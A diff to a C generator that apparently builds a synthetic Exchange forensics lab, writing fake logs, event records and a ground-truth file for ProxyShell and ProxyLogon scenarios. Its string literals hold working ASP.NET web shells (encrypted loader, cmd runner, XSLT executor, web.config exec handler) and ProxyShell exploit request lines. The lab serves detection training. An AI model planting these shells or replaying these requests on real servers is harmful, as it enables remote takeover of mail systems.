@@ -12,6 +12,7 @@
 #include <fcntl.h>
 #include <sys/stat.h>
 #include <time.h>
+#include "lab/host_win.h"
 #include "base/banned.h"
 
 const char *const lab_scenarios[] = {
@@ -25,6 +26,9 @@ const char *const lab_scenarios[] = {
     "owassrf",
     "proxytoken",
     "proxyshell-hidden",
+    "proxylogon-um",
+    "proxyshell-export",
+    "returned-later",
     NULL,
 };
 
@@ -39,6 +43,7 @@ struct gen {
 	int nbackdoors;
 	FILE *httpproxy_ecp, *httpproxy_owa, *httpproxy_ad, *iis, *ecp, *oab,
 	    *cmdlet;
+	struct winhost *win; /* event logs and hives */
 	int failed;
 };
 
@@ -551,7 +556,6 @@ static void sc_proxytoken(struct gen *g)
 	raise_truth(g, HC_33766, HL_EXPLOITED);
 }
 
-
 /* ProxyShell as real logs show it, then back doors hidden where no
  * folder rule looks: off the drop folders, inside a shipped page, after
  * hundreds of KB of padding, in UTF-16, in a web.config, as a handler.
@@ -560,8 +564,10 @@ static void sc_proxyshell_hidden(struct gen *g)
 {
 	static const char loader[] =
 	    "<%@ Page Language=\"C#\"%><%try{string k=\"3c6e0b8a9c15224a\";"
-	    "byte[] d=System.Convert.FromBase64String(Context.Request[\"pass\"]);"
-	    "d=new System.Security.Cryptography.RijndaelManaged().CreateDecryptor("
+	    "byte[] "
+	    "d=System.Convert.FromBase64String(Context.Request[\"pass\"]);"
+	    "d=new "
+	    "System.Security.Cryptography.RijndaelManaged().CreateDecryptor("
 	    "System.Text.Encoding.Default.GetBytes(k),System.Text.Encoding."
 	    "Default.GetBytes(k)).TransformFinalBlock(d,0,d.Length);"
 	    "if(Context.Session[\"p\"]==null){Context.Session[\"p\"]=(System."
@@ -578,7 +584,8 @@ static void sc_proxyshell_hidden(struct gen *g)
 	    "<%@ Page Language=\"C#\"%><script runat=\"server\">void "
 	    "Page_Load(object s,EventArgs e){var i=new System.Diagnostics."
 	    "ProcessStartInfo(\"c\"+\"md\",\"/c \"+Request.Form[\"z\"]);i."
-	    "UseShellExecute=false;i.RedirectStandardOutput=true;Response.Write("
+	    "UseShellExecute=false;i.RedirectStandardOutput=true;Response."
+	    "Write("
 	    "System.Diagnostics.Process.Start(i).StandardOutput.ReadToEnd());}"
 	    "</script>\r\n";
 	static const char tunnel[] =
@@ -591,20 +598,25 @@ static void sc_proxyshell_hidden(struct gen *g)
 	    "int.Parse(t[1])); c.Application[c.Request.Headers.Get(\"Sid\")] = "
 	    "s; } }\r\n";
 	static const char xsl[] =
-	    "<%@ Page Language=\"C#\"%><%@ Import Namespace=\"System.Xml.Xsl\"%>"
+	    "<%@ Page Language=\"C#\"%><%@ Import "
+	    "Namespace=\"System.Xml.Xsl\"%>"
 	    "<%var x=new XslCompiledTransform();x.Load(System.Xml.XmlReader."
 	    "Create(new System.IO.StringReader(System.Text.Encoding.UTF8."
 	    "GetString(Convert.FromBase64String(Request[\"d\"])))),new "
 	    "XsltSettings(true,true),null);x.Transform(System.Xml.XmlReader."
-	    "Create(new System.IO.StringReader(\"<a/>\")),null,Response.Output);"
+	    "Create(new "
+	    "System.IO.StringReader(\"<a/>\")),null,Response.Output);"
 	    "%>\r\n";
 	static const char config[] =
 	    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<configuration>"
 	    "<system.webServer><handlers accessPolicy=\"Read, Script, Write\">"
-	    "<add name=\"cfg\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" "
+	    "<add name=\"cfg\" path=\"*.config\" verb=\"*\" "
+	    "modules=\"IsapiModule\" "
 	    "scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" "
-	    "resourceType=\"Unspecified\" /></handlers><security><requestFiltering>"
-	    "<fileExtensions><remove fileExtension=\".config\" /></fileExtensions>"
+	    "resourceType=\"Unspecified\" "
+	    "/></handlers><security><requestFiltering>"
+	    "<fileExtensions><remove fileExtension=\".config\" "
+	    "/></fileExtensions>"
 	    "</requestFiltering></security></system.webServer></configuration>"
 	    "\r\n<!-- <% Response.Write(CreateObject(\"WScript.Shell\").Exec("
 	    "Request(\"c\")).StdOut.ReadAll()) %> -->\r\n";
@@ -622,13 +634,14 @@ static void sc_proxyshell_hidden(struct gen *g)
 	        "@x.ru/mapi/emsmdb/?&Email=autodiscover/autodiscover.json%3F@"
 	        "x.ru&CorrelationID=<empty>;&cafeReqId=1a2b3c4d;",
 	        "", ATTACKER_IP, "python-requests/2.25.1", 200);
-	iis_row(g->iis, "2021-08-22", "02:10:05", "POST",
-	        "/autodiscover/autodiscover.json",
-	        "@x.ru/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBh"
-	        "BZG1pbmlzdHJhdG9yQGNvcnAuZXhhbXBsZQ==&Email=autodiscover/"
-	        "autodiscover.json%3F@x.ru&CorrelationID=<empty>;&cafeReqId="
-	        "5e6f7a8b;",
-	        "", ATTACKER_IP, "python-requests/2.25.1", 200);
+	iis_row(
+	    g->iis, "2021-08-22", "02:10:05", "POST",
+	    "/autodiscover/autodiscover.json",
+	    "@x.ru/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBh"
+	    "BZG1pbmlzdHJhdG9yQGNvcnAuZXhhbXBsZQ==&Email=autodiscover/"
+	    "autodiscover.json%3F@x.ru&CorrelationID=<empty>;&cafeReqId="
+	    "5e6f7a8b;",
+	    "", ATTACKER_IP, "python-requests/2.25.1", 200);
 	raise_truth(g, HC_34473, HL_BACKDOORED);
 	raise_truth(g, HC_34523, HL_BACKDOORED);
 	if (g->cmdlet) {
@@ -687,6 +700,30 @@ static void sc_proxyshell_hidden(struct gen *g)
 	         sizeof config - 1, 1629598800);
 }
 
+/* CVE-2021-26857: the UM deserialization as the Application log shows
+ * it, after ProxyLogon's SSRF, then LSASS dumped (event logs only). */
+static void sc_proxylogon_um(struct gen *g)
+{
+	proxylogon_ssrf(g, false);
+	winhost_um_exploit(g->win);
+	raise_truth(g, HC_26857, HL_EXPLOITED);
+}
+
+/* ProxyShell's drop told by the MSExchange Management log alone (the
+ * cmdlet logs and the file itself are gone). */
+static void sc_proxyshell_export(struct gen *g)
+{
+	winhost_mailbox_export(g->win);
+	raise_truth(g, HC_34523, HL_EXPLOITED);
+	raise_truth(g, HC_31207, HL_EXPLOITED);
+}
+
+/* Weeks later, the ways back in (event logs and hives). */
+static void sc_returned_later(struct gen *g)
+{
+	winhost_returned(g->win);
+}
+
 int lab_host_write(const struct host_opts *o, const char *truth_path)
 {
 	struct gen g;
@@ -706,6 +743,9 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 	    {"owassrf", sc_owassrf},
 	    {"proxytoken", sc_proxytoken},
 	    {"proxyshell-hidden", sc_proxyshell_hidden},
+	    {"proxylogon-um", sc_proxylogon_um},
+	    {"proxyshell-export", sc_proxyshell_export},
+	    {"returned-later", sc_returned_later},
 	};
 
 	/* Check the names before writing anything. */
@@ -729,6 +769,11 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 	g.r.s = rng_mix(o->seed ^ 0x686f7374ull);
 	if (mkdir(o->dir, 0755) && errno != EEXIST) {
 		log_error("%s: %s", o->dir, strerror(errno));
+		return EXIT_RUNTIME;
+	}
+	g.win = winhost_new(o->seed);
+	if (!g.win) {
+		log_error("out of memory");
 		return EXIT_RUNTIME;
 	}
 	shipped(&g);
@@ -761,6 +806,7 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 		fprintf(g.cmdlet, "2021-01-03T10:00:00.000Z Get-Mailbox "
 		                  "-ResultSize Unlimited\r\n");
 	benign(&g, o->size_gb);
+	winhost_benign(g.win);
 	while (list.len) {
 		bool known = false;
 		view_split(&list, ',', &item);
@@ -792,11 +838,16 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 		fclose(g.oab);
 	if (g.cmdlet)
 		fclose(g.cmdlet);
-	if (g.failed)
+	if (!g.failed && winhost_write(g.win, o->dir))
+		g.failed = 1;
+	if (g.failed) {
+		winhost_free(g.win);
 		return g.failed == 2 ? EXIT_USAGE : EXIT_RUNTIME;
+	}
 	t = fopen(truth_path, "w");
 	if (!t) {
 		log_error("%s: %s", truth_path, strerror(errno));
+		winhost_free(g.win);
 		return EXIT_RUNTIME;
 	}
 	fprintf(t, "{\"seed\":%llu,\"scenarios\":\"%s\",\"verdicts\":{",
@@ -807,6 +858,8 @@ int lab_host_write(const struct host_opts *o, const char *truth_path)
 	fprintf(t, "},\"backdoors\":[");
 	for (i = 0; i < g.nbackdoors; i++)
 		fprintf(t, "%s\"%s\"", i ? "," : "", g.backdoors[i]);
-	fprintf(t, "]}\n");
+	/* the ways back in a hunt must list (finding kinds, high or worse) */
+	fprintf(t, "],\"persistence\":[%s]}\n", winhost_persistence(g.win));
+	winhost_free(g.win);
 	return fclose(t) ? EXIT_RUNTIME : 0;
 }
